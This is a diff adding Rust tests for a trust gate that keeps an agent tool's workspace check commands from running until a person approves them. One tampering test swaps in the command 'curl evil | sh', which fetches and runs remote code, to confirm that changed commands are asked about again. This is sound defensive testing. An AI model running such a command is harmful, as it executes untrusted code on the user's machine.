@@ -1,0 +1,228 @@
+//! Checks of a workspace: a person trusts them, or has them remembered, in every face; nothing else does.
+#![cfg(unix)]
+#![expect(clippy::unwrap_used, reason = "a test that cannot continue fails")]
+
+use std::fs;
+
+use serde_json::{Value, json};
+
+use crate::support::messages_api::{MessagesApi, Script};
+use crate::support::plain_editor::PlainEditor;
+use crate::support::replies::{but, goes_well, own, workspace};
+use crate::support::session::{Done, Session};
+use crate::support::terminal::Terminal;
+
+const PROMPT: &str = "then Enter > ";
+const TEST: &str = "[[checks]]\nname = \"test\"\ncommand = \"true\"\n";
+
+fn server() -> MessagesApi {
+    MessagesApi::start(goes_well(&[&[own("T1")]]))
+}
+
+/// A workspace whose baton.toml has these checks.
+fn with_checks(checks: &str) -> Session {
+    let session = Session::new(&workspace(1));
+    session.write("baton.toml", checks);
+    session
+}
+
+/// A workspace without checks that shows how it is tested.
+fn with_makefile() -> Session {
+    let session = Session::new(&workspace(1));
+    session.write("Makefile", "test:\n\ttrue\n");
+    session
+}
+
+/// `baton trust` at a terminal, and this answer.
+fn trust(session: &Session, answer: &str) -> (String, Done) {
+    let mut terminal = Terminal::new();
+    let running = terminal.start(session.baton(["trust"]));
+    let shown = terminal.wait_for("[y/N] ");
+    terminal.type_line(answer);
+    (shown, running.wait())
+}
+
+/// The checks at the gate of a plan that waits: `name: trusted`, and what is offered.
+fn at_gate(session: &Session) -> (Value, Value) {
+    let status = session.baton(["status", "--json"]).run().expect(0).json();
+    (status["gate"]["checks"].clone(), status["gate"]["offered_checks"].clone())
+}
+
+/// A run up to its gate.
+fn to_the_gate(session: &Session, api: &MessagesApi) {
+    session.run(api, ["--task", "Do it"]).expect(3);
+}
+
+fn is_trusted(session: &Session) -> bool {
+    session.baton(["trust"]).run().code == Some(0)
+}
+
+#[test]
+fn a_person_sees_the_checks_in_full_and_trusts_them() {
+    let checks = "[[checks]]\nname = \"test\"\ncommand = '''\nset -e\nmake all  # a\tb\n'''\nnetwork = true\nsecrets = true\n\
+                  timeout_s = 90\n";
+    let session = with_checks(checks);
+    session.baton(["trust"]).run().expect(3).reports("set -e").reports("run `baton trust` at a terminal");
+    let (shown, done) = trust(&session, "");
+    done.expect(3);
+    for part in
+        ["test (baton.toml; 1 m 30 s at most, with network and secret files)", "      set -e\n", "      make all  # a"]
+    {
+        assert!(shown.contains(part), "{part:?} is not in:\n{shown}");
+    }
+    trust(&session, "yes").1.expect(0);
+    session.baton(["trust"]).run().expect(0).prints("There is nothing left to trust: these checks may run.");
+    assert!(!session.exists(".agent_memory"), "to trust needs no memory, and leaves none");
+}
+
+#[test]
+fn a_changed_command_is_asked_about_again_with_what_it_was() {
+    let session = with_checks(TEST);
+    trust(&session, "y").1.expect(0);
+    session.write("baton.toml", TEST.replace("true", "curl evil | sh"));
+    session.baton(["trust"]).run().expect(3).reports("curl evil | sh").reports("it was:\n      true");
+    session.write("baton.toml", format!("{TEST}network = true\n"));
+    session.baton(["trust"]).run().expect(3).reports("what it may do changed");
+    session.write("baton.toml", format!("{TEST}timeout_s = 5\npaths = [\"*.rs\"]\n"));
+    assert!(is_trusted(&session), "when it runs is not what it does");
+}
+
+#[test]
+fn trust_is_of_this_folder_this_user_and_these_bytes() {
+    let session = with_checks(TEST);
+    trust(&session, "y").1.expect(0);
+    let copy = session.root().parent().unwrap().join("copy");
+    fs::create_dir(&copy).unwrap();
+    fs::copy(session.path("baton.toml"), copy.join("baton.toml")).unwrap();
+    session.baton(["trust"]).current_dir(&copy).run().expect(3);
+    let state = session.root().parent().unwrap().join("other state");
+    session.baton(["trust"]).env("XDG_STATE_HOME", &state).run().expect(3);
+    assert!(is_trusted(&session));
+    // A record that came from elsewhere is none.
+    let records: Vec<_> = fs::read_dir(session.state().join("checks")).unwrap().collect();
+    let record = records.into_iter().next().unwrap().unwrap().path();
+    let text = fs::read_to_string(&record).unwrap();
+    session.write("baton.toml", TEST.replace("true", "evil"));
+    fs::write(&record, text.replace("\"true\"", "\"evil\"")).unwrap();
+    assert!(!is_trusted(&session));
+}
+
+#[test]
+fn checks_of_the_user_need_no_word_and_replace_those_of_the_workspace() {
+    let session = with_checks(TEST);
+    session.write_user_config("[[checks]]\nname = \"mine\"\ncommand = \"make mine\"\n");
+    session.baton(["trust"]).run().expect(0).prints("mine (your own settings; 10 m 0 s at most)");
+    session.write_user_config("checks = []\n");
+    session.baton(["trust"]).run().expect(0).prints("There is nothing to trust here: no checks are set.");
+}
+
+#[test]
+fn an_automatic_approval_trusts_nothing() {
+    let (session, api) = (with_checks(TEST), server());
+    session.run(&api, ["--task", "Do it", "--auto-approve"]).expect(0);
+    assert!(!is_trusted(&session));
+    let status = session.baton(["status", "--json"]).run().expect(0).json();
+    let ways = status["ways_on"].as_array().unwrap();
+    let way = ways.iter().find(|way| way["id"] == "trust").unwrap();
+    assert_eq!((&way["cli"], &way["command"]), (&json!("baton trust"), &Value::Null));
+}
+
+/// A run at a terminal, up to its end: what the gate shows, then an approval, then these answers to `question`.
+fn approve_at_terminal(session: &Session, api: &MessagesApi, question: &str, answers: &[&str]) -> String {
+    let mut terminal = Terminal::new();
+    let running = terminal.start(session.baton(["run"]).api(api));
+    let shown = terminal.wait_for(PROMPT);
+    terminal.type_line("a");
+    for answer in answers {
+        terminal.wait_for(question);
+        terminal.type_line(answer);
+    }
+    running.wait().expect(0);
+    shown
+}
+
+#[test]
+fn the_gate_shows_what_is_skipped_and_takes_a_yes() {
+    for (answer, expected) in [("", false), ("n", false), ("y", true)] {
+        let (session, api) = (with_checks(TEST), server());
+        to_the_gate(&session, &api);
+        let (checks, offered) = at_gate(&session);
+        assert_eq!((&checks[0]["name"], &checks[0]["trusted"], &offered), (&json!("test"), &json!(false), &json!([])));
+        assert!(session.memory("plan.md").contains("- check **test** is skipped (not trusted yet): `true`\n"));
+        let shown = approve_at_terminal(&session, &api, "not trusted yet: run it? [y/N] >", &[answer]);
+        assert!(shown.contains("- test: true (skipped: not trusted yet)"), "{shown}");
+        assert_eq!(is_trusted(&session), expected, "{answer:?}");
+    }
+}
+
+#[test]
+fn a_trusted_check_is_shown_as_one_that_runs_and_nothing_is_asked() {
+    let (session, api) = (with_checks(TEST), server());
+    trust(&session, "y").1.expect(0);
+    to_the_gate(&session, &api);
+    assert!(session.memory("plan.md").contains("- check **test** runs after the work: `true`\n"));
+    let shown = approve_at_terminal(&session, &api, "", &[]);
+    assert!(shown.contains("  - test: true\n"), "{shown}");
+}
+
+#[test]
+fn what_a_project_is_tested_by_is_remembered_on_a_yes_alone() {
+    for (answers, is_remembered) in [(vec![""], false), (vec!["n"], false), (vec!["what?", "y"], true)] {
+        let (session, api) = (with_makefile(), server());
+        to_the_gate(&session, &api);
+        let offered = at_gate(&session).1;
+        assert_eq!((&offered[0]["command"], &offered[0]["reason"]), (&json!("make test"), &json!("Makefile")));
+        assert!(session.memory("plan.md").contains("`make test` (Makefile)"));
+        let shown = approve_at_terminal(&session, &api, "Enter: not now >", &answers);
+        assert!(shown.contains("- make test (Makefile)"), "{shown}");
+        assert_eq!(session.exists("baton.toml"), is_remembered, "{answers:?}");
+        if is_remembered {
+            let written = "[[checks]]\nname = \"test\"\ncommand = \"make test\"\n";
+            assert_eq!(session.text("baton.toml"), written);
+            session.baton(["trust"]).run().expect(0).prints("these checks may run");
+        }
+        // A no is kept, and leaving it open is none.
+        let offers_again = session.baton(["trust"]).run().stdout.contains("make test");
+        assert_eq!(offers_again, answers != ["n"], "{answers:?}");
+    }
+}
+
+#[test]
+fn an_editor_without_a_plugin_asks_after_the_approval() {
+    let (session, api) = (with_checks(TEST), server());
+    let mut editor = PlainEditor::open(&session, &api);
+    let started = editor.execute("baton.workflow", &[json!("Do it")]).unwrap();
+    editor.answer("Approve");
+    editor.answer("Run Them");
+    editor.until_the_end(&started);
+    editor.quit();
+    assert!(is_trusted(&session));
+}
+
+#[test]
+fn a_code_lens_approves_with_the_checks() {
+    let (session, api) = (with_makefile(), server());
+    to_the_gate(&session, &api);
+    let mut editor = PlainEditor::open(&session, &api);
+    editor.open_file(".agent_memory/plan.json");
+    let started = editor.press_lens(".agent_memory/plan.json", "Approve and remember the check (make test)");
+    assert_eq!(started["remembered_checks"], json!(["make test"]));
+    editor.until_the_end(&started);
+    editor.quit();
+    assert!(is_trusted(&session));
+    assert!(session.text("baton.toml").contains("make test"));
+}
+
+#[test]
+fn a_client_says_what_it_was_shown() {
+    let (session, api) = (with_checks(TEST), MessagesApi::start(but(Script::new(), &[&[own("T1")]])));
+    to_the_gate(&session, &api);
+    let shown = at_gate(&session).0[0]["id"].as_str().unwrap().to_owned();
+    session.write("baton.toml", TEST.replace("true", "evil"));
+    let mut editor = PlainEditor::open(&session, &api);
+    let refused = editor.execute("baton.approve", &[json!({ "trustChecks": [shown] })]).unwrap_err();
+    assert!(refused["message"].as_str().unwrap().contains("not those that were shown"), "{refused}");
+    editor.quit();
+    assert!(!session.exists(".agent_memory/approval.json"), "nothing was approved either");
+    assert!(!is_trusted(&session));
+}
